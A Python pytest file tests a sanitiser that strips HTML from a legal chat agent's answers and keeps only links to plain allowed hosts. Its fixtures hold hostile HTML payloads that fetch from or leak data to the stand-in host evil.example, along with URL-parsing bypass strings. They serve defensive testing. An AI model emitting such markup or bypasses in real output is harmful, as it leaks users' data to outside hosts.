"""An answer carries no raw HTML and links only to plain allowed host names: what a
markdown client would render and fetch (agents/chat/_links.py)."""

from __future__ import annotations

import time

import pytest
from django.test import override_settings

from agents.chat._links import allowed, safe_links, without_html

FETCHING_HTML = [
    '<div style="background-image:url(//evil.example/leak?d=SECRET)">mot</div>',
    '<td background="//evil.example/p.png?d=X">mot',
    '<p style="background:url(&#104;ttps://evil.example/a)">mot</p>',
    "<track src=//evil.example>mot",
    "<math href=//evil.example>mot</math>",
    "<isindex action=//evil.example>mot",
    "<details open ontoggle=fetch('//evil.example')>mot</details>",
    "<!-- <img src=//evil.example> -->mot",
    "<?php //evil.example ?>mot",
    "<!DOCTYPE x SYSTEM '//evil.example'>mot",
    "<<img src=//evil.example>>mot",
    "<img src=//evil.example/never-closed mot",
]


def _opens_no_tag(text: str) -> bool:
    """No "<" in ``text`` is followed by what starts a tag, a comment or a declaration."""
    return not any(
        part[:1].isalpha() or part[:1] in {"/", "!", "?"} for part in text.split("<")[1:]
    )


@pytest.mark.parametrize("html", FETCHING_HTML)
def test_any_html_tag_is_taken_out_of_an_answer_and_its_words_stay(html: str):
    text, removed = safe_links(f"Le bail [1]. {html}")
    assert _opens_no_tag(text), text
    assert "mot" in text and text.startswith("Le bail [1]. ")
    assert (removed.tags == 0) == html.startswith("<<")  # "<< img …": words in quotes


def test_text_that_only_looks_like_markup_is_kept():
    prose = "Si a < b et b<3, « voir » << citation >> ou <https://www.legifrance.gouv.fr/x>."
    assert safe_links(prose) == (prose, safe_links(prose)[1])
    assert safe_links(prose)[1].total == 0
    # A quote in "<<…>>" without spaces keeps its words (the quote check reads them), with a
    # space that no renderer reads as the tag <sirocco gratuit>.
    assert without_html("<<sirocco gratuit>>") == ("<< sirocco gratuit>>", 0)


def test_removing_html_takes_linear_time():
    for hostile in ("<a" * 100_000, "<!--" * 50_000, "<<a" * 70_000, "<a:b" * 50_000):
        started = time.perf_counter()
        without_html(hostile)
        assert time.perf_counter() - started < 1.0, hostile[:8]


@override_settings(LEXROOM_ANSWER_LINK_HOSTS=["legifrance.gouv.fr"])
@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example\\.legifrance.gouv.fr/x",
        "https://evil.example%2f.legifrance.gouv.fr/x",
        "https://user@www.legifrance.gouv.fr/x",
        "https://evil.example\\@www.legifrance.gouv.fr/x",
        "https://www.legifrance.gouv.fr:443\\@evil.example/",
        "www.evil.example\\.legifrance.gouv.fr",
    ],
)
def test_a_host_that_is_not_a_plain_name_loses_its_address(url: str):
    assert not allowed(url)
    assert safe_links(f"[Légifrance]({url})")[0] == "Légifrance"
    assert not allowed("/\t/evil.example/x")  # a browser drops the tab: "//evil.example"


@override_settings(LEXROOM_ANSWER_LINK_HOSTS=["legifrance.gouv.fr"])
def test_a_plain_allowed_host_keeps_its_address():
    assert allowed("https://www.legifrance.gouv.fr:443/codes/id/1?x=%20y")
    assert allowed("/w/matter/documents/3/")
